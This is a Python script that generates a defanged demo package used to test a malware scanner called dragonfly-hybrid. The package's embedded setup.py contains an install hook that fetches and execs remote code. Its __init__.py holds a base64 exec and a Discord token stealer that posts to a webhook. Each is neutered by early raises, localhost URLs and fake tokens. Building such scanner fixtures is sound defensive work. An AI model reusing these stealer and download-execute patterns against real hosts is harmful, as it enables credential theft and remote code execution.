"""Write ``examples/evil-demo-0.1.tar.gz``, a harmless demo sdist that the bundled rules flag.

The package *looks* malicious on purpose so that ``dragonfly-hybrid scan`` has something to report:
an install-command override that downloads code and executes it, a base64-encoded payload passed
to ``exec``, and a Discord token stealer that posts to a webhook. It is defanged: every URL points
at the discard port of 127.0.0.1, the webhook id and token are fake, the encoded payload only
prints a message, and both ``setup.py`` and the package stop with an error before any of that
code could run. Never install it anyway; it exists to be scanned.

The archive is byte-for-byte reproducible: sorted entries, fixed mtimes and owners, gzip mtime 0.

    python examples/make_sample.py [OUTPUT]
"""

from __future__ import annotations

import gzip
import io
import sys
import tarfile
from pathlib import Path

NAME = "evil-demo"
VERSION = "0.1"
TOP = f"{NAME}-{VERSION}"
DEFAULT_OUTPUT = Path(__file__).with_name(f"{TOP}.tar.gz")
MTIME = 1_704_067_200  # 2024-01-01T00:00:00Z

PKG_INFO = f"""\
Metadata-Version: 2.1
Name: {NAME}
Version: {VERSION}
Summary: Harmless demo package for the dragonfly-hybrid scanner (looks malicious, is defanged)
Home-page: https://example.invalid/evil-demo
License: Apache-2.0
"""

SETUP_PY = '''\
"""evil-demo: a harmless dragonfly-hybrid demo. It only looks like an install-time dropper."""
import urllib.request

from setuptools import setup
from setuptools.command.install import install

STAGE2 = "http://127.0.0.1:9/stage2.py"  # discard port: nothing is served here


class PostInstall(install):
    """Pretends to fetch and run a second stage after installing."""

    def run(self):
        raise SystemExit("evil-demo is a scanner demo and must not be installed")
        install.run(self)
        exec(urllib.request.urlopen(STAGE2, timeout=1).read())


setup(
    name="evil-demo",
    version="0.1",
    packages=["evil_demo"],
    cmdclass={"install": PostInstall},
)
'''

INIT_PY = '''\
"""evil-demo: a harmless dragonfly-hybrid demo. It only looks like a token stealer."""
import base64
import os
import re

import requests

raise ImportError("evil-demo is a scanner demo; there is nothing to import")

# decodes to: print("dragonfly-hybrid demo payload")
exec(base64.b64decode("cHJpbnQoImRyYWdvbmZseS1oeWJyaWQgZGVtbyBwYXlsb2FkIik="))

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/evil-demo-fake-webhook-token-not-real"
ROAMING = os.environ.get("APPDATA", "")
LEVELDB = os.path.join(ROAMING, "discord", "Local Storage", "leveldb")
TOKEN_RE = re.compile(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}")


def grab():
    tokens = []
    for name in os.listdir(LEVELDB):
        with open(os.path.join(LEVELDB, name), errors="ignore") as f:
            tokens += TOKEN_RE.findall(f.read())
    requests.post(WEBHOOK, json={"content": f"{os.getlogin()}: {tokens}"}, timeout=1)
'''

FILES = {
    f"{TOP}/PKG-INFO": PKG_INFO,
    f"{TOP}/setup.py": SETUP_PY,
    f"{TOP}/evil_demo/__init__.py": INIT_PY,
}


def build() -> bytes:
    """The gzipped tarball, identical on every run."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path in sorted(FILES):
            data = FILES[path].encode("utf-8")
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mtime = MTIME
            info.mode = 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as gz:
        gz.write(raw.getvalue())
    return out.getvalue()


def main(argv: list[str]) -> int:
    output = Path(argv[1]) if len(argv) > 1 else DEFAULT_OUTPUT
    output.write_bytes(build())
    print(f"wrote {output}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
